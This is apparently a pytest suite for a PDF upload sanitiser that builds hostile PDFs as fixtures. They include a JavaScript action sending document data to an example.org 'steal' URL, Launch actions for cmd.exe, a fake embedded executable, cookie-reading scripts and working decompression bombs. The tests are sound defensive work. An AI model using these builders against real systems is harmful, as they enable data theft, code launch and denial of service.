"""Hostile uploads (issue 8): a PDF is parsed and re-written, its active content stripped,
and bombs, disguised files and locked files are refused with a message naming the problem
(R10 scanned consent, R31 note attachments)."""

from __future__ import annotations

import binascii
import functools
import io
import struct
import subprocess
import sys
import time
import zlib

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

from stafett.i18n import translate
from stafett.messages import message_for
from stafett.models.base import DomainError
from stafett.models.files import (
    MAX_OBJECTS,
    MAX_PAGES,
    MAX_UPLOAD_BYTES,
    pdf_upload,
)

MB = 1024 * 1024
SCRIPT = "app.launchURL('https://example.org/steal?' + this.info.title);"
ACTIVE_KEYS = {"/OpenAction", "/AA", "/JS", "/EmbeddedFiles", "/EF", "/XFA", "/FS"}
ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE",
                  "/URI", "/Rendition"}


# -- hostile PDFs, built with pikepdf --------------------------------------------------------
def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def plain_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    pdf.docinfo[Name.Title] = "Samtykke"
    return pdf


def javascript(pdf: pikepdf.Pdf, script: str = SCRIPT) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(script)))


def with_open_action_javascript() -> bytes:
    pdf = plain_pdf()
    pdf.Root.OpenAction = javascript(pdf)
    pdf.Root.AA = Dictionary(WC=javascript(pdf))  # when the document closes
    return saved(pdf)


def with_document_javascript() -> bytes:
    pdf = plain_pdf()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
        Names=Array([String("init"), javascript(pdf)])))
    return saved(pdf)


def with_launch_annotation() -> bytes:
    pdf = plain_pdf()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100],
                      A=Dictionary(S=Name.Launch, F=String("cmd.exe"),
                                   Next=javascript(pdf)))
    submit = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 100, 100, 200],
                        A=Dictionary(S=Name.SubmitForm, F=String("https://example.org/")))
    page = pdf.pages[0].obj
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(link), pdf.make_indirect(submit)]))
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("calc.exe")))  # page opens
    return saved(pdf)


def with_embedded_file() -> bytes:
    pdf = plain_pdf()
    pdf.attachments["virus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 payload")
    paperclip = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20],
                           FS=pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 second").obj)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(paperclip)])
    return saved(pdf)


def with_form_scripts() -> bytes:
    pdf = plain_pdf()
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
        Rect=[0, 0, 100, 20], P=pdf.pages[0].obj, AA=Dictionary(K=javascript(pdf))))
    pdf.pages[0].obj.Annots = Array([field])
    xfa = pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('hi')</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa)
    return saved(pdf)


def html_behind_header() -> bytes:
    return b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def pdf_with_html_tail() -> bytes:
    return saved(plain_pdf()) + b"<html><script>alert(document.cookie)</script></html>\n"


@functools.cache
def flate_bomb(unpacked: int = 200 * MB) -> bytes:
    """A page whose content stream is a few hundred KB and unpacks to ``unpacked`` bytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(MB)) for _ in range(unpacked // MB))
    pdf = plain_pdf()
    content = pikepdf.Stream(pdf, packed + packer.flush())
    content.Filter = Name.FlateDecode  # the bytes are already packed: declare, do not pack
    pdf.pages[0].obj.Contents = pdf.make_indirect(content)
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@functools.cache
def hex_flate_bomb() -> bytes:
    """The same bomb behind a second filter, so the check cannot just inflate the raw bytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(MB)) for _ in range(200)) + packer.flush()
    pdf = plain_pdf()
    content = pikepdf.Stream(pdf, binascii.hexlify(packed) + b">")
    content.Filter = Array([Name.ASCIIHexDecode, Name.FlateDecode])
    pdf.pages[0].obj.Contents = pdf.make_indirect(content)
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def grey_scan(pages: int) -> bytes:
    """Pages scanned in grey at 300 dpi without loss: about 9 MB unpacked each."""
    width, height = 2480, 3508
    pixels = bytearray(b"\xff" * (width * height))
    pixels[::997] = bytes(len(pixels[::997]))  # some ink
    packed = zlib.compress(bytes(pixels), 6)
    pdf = pikepdf.new()
    for _ in range(pages):
        image = pikepdf.Stream(pdf, packed)
        image.Filter, image.Type, image.Subtype = Name.FlateDecode, Name.XObject, Name.Image
        image.Width, image.Height, image.BitsPerComponent = width, height, 8
        image.ColorSpace = Name.DeviceGray
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
        page.obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@functools.cache
def object_stream_bomb(padding: int = 200 * MB) -> bytes:
    """The catalog and page tree inside an object stream padded to ``padding`` bytes: a PDF
    reader unpacks it while it opens the file, before any page is looked at."""
    bodies = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]
    offsets = [sum(len(b) + 1 for b in bodies[:n]) for n in range(len(bodies))]
    header = b" ".join(b"%d %d" % (n + 1, at) for n, at in enumerate(offsets)) + b" "
    packer = zlib.compressobj(9)
    packed = packer.compress(header + b"\n".join(bodies) + b"\n")
    packed += b"".join(packer.compress(b" " * MB) for _ in range(padding // MB)) + packer.flush()
    out = bytearray(b"%PDF-1.5\n")
    objstm_at = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\n" \
        b"stream\n" % (len(header), len(packed)) + packed + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535), *(struct.pack(">BIH", 2, 4, n) for n in range(3)),
            struct.pack(">BIH", 1, objstm_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
    xref = b"".join(rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" \
        % len(xref) + xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def with_lzw_stream() -> bytes:
    pdf = plain_pdf()
    content = pikepdf.Stream(pdf, b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01")  # "-----A---B"
    content.Filter = Name.LZWDecode
    pdf.pages[0].obj.Contents = pdf.make_indirect(content)
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def with_many_objects(count: int) -> bytes:
    pdf = plain_pdf()
    pdf.Root.Padding = Array([pdf.make_indirect(Dictionary()) for _ in range(count)])
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def encrypted(user: str) -> bytes:
    return saved(plain_pdf(), encryption=pikepdf.Encryption(user=user, owner="owner-secret"))


# -- what the stored file holds ------------------------------------------------------------
def active_content(data: bytes) -> set[str]:
    """Every key and action type, in every object of the file (referenced or not), that could
    run, launch or carry something: an empty set means the file is inert. Read with pypdf, a
    parser other than the one that wrote the file."""
    reader = PdfReader(io.BytesIO(data))
    numbers = {n for generation in reader.xref.values() for n in generation}
    numbers |= set(reader.xref_objStm)
    found: set[str] = set()
    for obj in [reader.trailer, *(reader.get_object(n) for n in sorted(numbers))]:
        _collect(obj, found, depth=0)
    return found


def _collect(obj, found: set[str], depth: int) -> None:
    """Direct children only: every indirect object is visited on its own."""
    if depth > 20:
        return
    if isinstance(obj, DictionaryObject):
        found.update(ACTIVE_KEYS & set(obj.keys()))
        if obj.get("/Type") == "/EmbeddedFile":
            found.add("/EmbeddedFile")
        if obj.get("/S") in ACTIVE_ACTIONS:
            found.add(str(obj.get("/S")))
        names = obj.get("/Names")
        if isinstance(names, DictionaryObject) and "/JavaScript" in names:
            found.add("/Names/JavaScript")
        children = dict.values(obj)  # unresolved: references stay references
    elif isinstance(obj, ArrayObject):
        children = list.__iter__(obj)
    else:
        return
    for child in children:
        if not isinstance(child, IndirectObject):
            _collect(child, found, depth + 1)


def refusal(data: bytes, locale: str = "nb") -> str:
    with pytest.raises(DomainError) as caught:
        pdf_upload(data, "opplasting.pdf")
    return translate(message_for(caught.value), locale)


def page_count(data: bytes) -> int:
    return len(PdfReader(io.BytesIO(data)).pages)


# -- accepted and re-written ---------------------------------------------------------------
def test_r10_a_plain_pdf_is_accepted_rewritten_and_still_opens():
    original = saved(plain_pdf(pages=3))
    stored = pdf_upload(original, "samtykke.pdf")
    assert stored.data != original  # what is stored is the re-written file
    assert stored.filename == "samtykke.pdf" and stored.content_type == "application/pdf"
    assert stored.size == len(stored.data) and stored.data.startswith(b"%PDF-")
    assert page_count(stored.data) == 3
    with pikepdf.open(io.BytesIO(stored.data)) as pdf:
        assert pdf.docinfo[Name.Title] == "Samtykke"  # the document itself is kept
    assert active_content(stored.data) == set()


@pytest.mark.parametrize("build", [with_open_action_javascript, with_document_javascript,
                                   with_launch_annotation, with_embedded_file,
                                   with_form_scripts])
def test_r31_active_content_is_stripped_and_the_document_kept(build):
    hostile = build()
    assert active_content(hostile)  # the fixture really is hostile
    stored = pdf_upload(hostile, "notat.pdf")
    assert active_content(stored.data) == set()
    assert page_count(stored.data) == 1
    for marker in (b"/JavaScript", b"/OpenAction", b"/EmbeddedFile", b"/Launch", b"<script",
                   b"MZ\x90\x00", b"app.launchURL", b"cmd.exe"):
        assert marker not in stored.data


def test_r31_javascript_links_and_attachments_inside_annotations_are_gone():
    stored = pdf_upload(with_launch_annotation(), "notat.pdf")
    with pikepdf.open(io.BytesIO(stored.data)) as pdf:
        page = pdf.pages[0].obj
        assert Name.AA not in page
        assert all(Name.A not in annot for annot in page.Annots)  # links kept, but inert


def test_r10_a_pdf_with_html_behind_it_is_stored_without_the_html():
    stored = pdf_upload(pdf_with_html_tail(), "samtykke.pdf")
    assert b"<html" not in stored.data and b"<script" not in stored.data
    assert page_count(stored.data) == 1


def test_r10_a_pdf_locked_only_against_editing_is_stored_unlocked():
    stored = pdf_upload(encrypted(user=""), "samtykke.pdf")
    with pikepdf.open(io.BytesIO(stored.data)) as pdf:
        assert not pdf.is_encrypted and len(pdf.pages) == 1


# -- refused, with a message naming the problem --------------------------------------------
def test_r10_html_that_only_starts_like_a_pdf_is_refused():
    assert refusal(html_behind_header()) == ("Filen kan ikke leses som PDF: den er skadet "
                                             "eller bare ser ut som en PDF.")
    assert refusal(b"GIF89a not a pdf") == "Filen er ikke en PDF."
    assert refusal(b"%PDF-1.4\n" + bytes(MAX_UPLOAD_BYTES)) == "Filen er større enn 10 MB."


def test_r10_a_flate_bomb_is_refused_quickly_and_named():
    bomb = flate_bomb()
    assert len(bomb) < MB
    started = time.monotonic()
    message = refusal(bomb)
    assert time.monotonic() - started < 5
    assert message == ("PDF-en pakker seg ut til mer enn 100 MB. Så mye innhold tar vi ikke "
                       "imot; den kan være laget for å fylle opp minnet (en «zip-bombe»).")


def test_r10_a_bomb_behind_a_second_filter_is_refused():
    assert refusal(hex_flate_bomb()).startswith("PDF-en pakker seg ut til mer enn 100 MB.")


def test_r10_a_grey_scan_of_several_pages_is_accepted_and_rewritten():
    scan = grey_scan(pages=8)  # about 70 MB unpacked, under the limit
    stored = pdf_upload(scan, "skannet-brev.pdf")
    assert stored.data != scan and page_count(stored.data) == 8


def test_r10_a_bomb_inside_an_object_stream_is_refused():
    assert page_count(pdf_upload(object_stream_bomb(padding=0), "a.pdf").data) == 1
    assert refusal(object_stream_bomb()).startswith(("PDF-en pakker seg ut", "Filen kan ikke"))


@pytest.mark.parametrize("bomb", [flate_bomb, object_stream_bomb])
def test_r10_a_bomb_is_refused_without_unpacking_it_into_memory(tmp_path, bomb):
    """In a fresh process, so the peak memory is the check's own."""
    path = tmp_path / "bomb.pdf"
    path.write_bytes(bomb())
    probe = (
        "import resource, sys\n"
        "from stafett.models.base import DomainError\n"
        "from stafett.models.files import pdf_upload\n"
        f"data = open({str(path)!r}, 'rb').read()\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "try:\n"
        "    pdf_upload(data, 'bomb.pdf')\n"
        "except DomainError:\n"
        "    pass\n"
        "else:\n"
        "    sys.exit('accepted')\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
    )
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                            timeout=60, check=True)
    grown_kb = int(result.stdout)
    assert grown_kb < 100 * 1024  # well under the 200 MB the bomb unpacks to


def test_r10_too_many_pages_is_refused():
    assert page_count(pdf_upload(saved(plain_pdf(pages=MAX_PAGES)), "a.pdf").data) == MAX_PAGES
    assert refusal(saved(plain_pdf(pages=MAX_PAGES + 1))) == "PDF-en har mer enn 500 sider."


def test_r10_too_many_objects_is_refused():
    assert refusal(with_many_objects(MAX_OBJECTS)) == (
        "PDF-en er for sammensatt: den har mer enn 100000 objekter.")


def test_r10_a_password_protected_pdf_is_refused():
    assert refusal(encrypted(user="hemmelig")) == (
        "PDF-en er beskyttet med passord. Fjern passordet, eller lagre den som en ny PDF, "
        "og prøv igjen.")


def test_r10_old_lzw_compression_is_refused():
    assert refusal(with_lzw_stream()).startswith("PDF-en bruker en gammel komprimering (LZW)")


def test_r33_refusals_are_translated():
    assert refusal(encrypted(user="x"), "nn").startswith("PDF-en er verna med passord.")
    assert refusal(encrypted(user="x"), "en").startswith("The PDF is protected by a password.")
    assert refusal(html_behind_header(), "nn").startswith("Fila kan ikkje lesast som PDF")
    assert refusal(html_behind_header(), "en").startswith("The file cannot be read as a PDF")
    assert refusal(flate_bomb(), "en").startswith("The PDF unpacks to more than 100 MB.")
    assert refusal(flate_bomb(), "nn").startswith("PDF-en pakkar seg ut til meir enn 100 MB.")
    assert refusal(saved(plain_pdf(pages=501)), "nn") == "PDF-en har meir enn 500 sider."
    assert refusal(with_lzw_stream(), "en").startswith("The PDF uses an old compression (LZW)")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_r10_any_bytes_behind_the_header_are_refused_or_rewritten_never_crash(tail):
    try:
        stored = pdf_upload(b"%PDF-1.4\n" + tail, "x.pdf")
    except DomainError:
        return
    assert page_count(stored.data) >= 0 and active_content(stored.data) == set()


@settings(max_examples=25, deadline=None)
@given(st.binary(max_size=4096))
def test_r10_bytes_after_a_real_pdf_never_reach_the_stored_file(tail):
    original = saved(plain_pdf())
    stored = pdf_upload(original + b"\n<script>" + tail, "x.pdf")
    assert page_count(stored.data) == 1
    assert b"<script>" not in stored.data
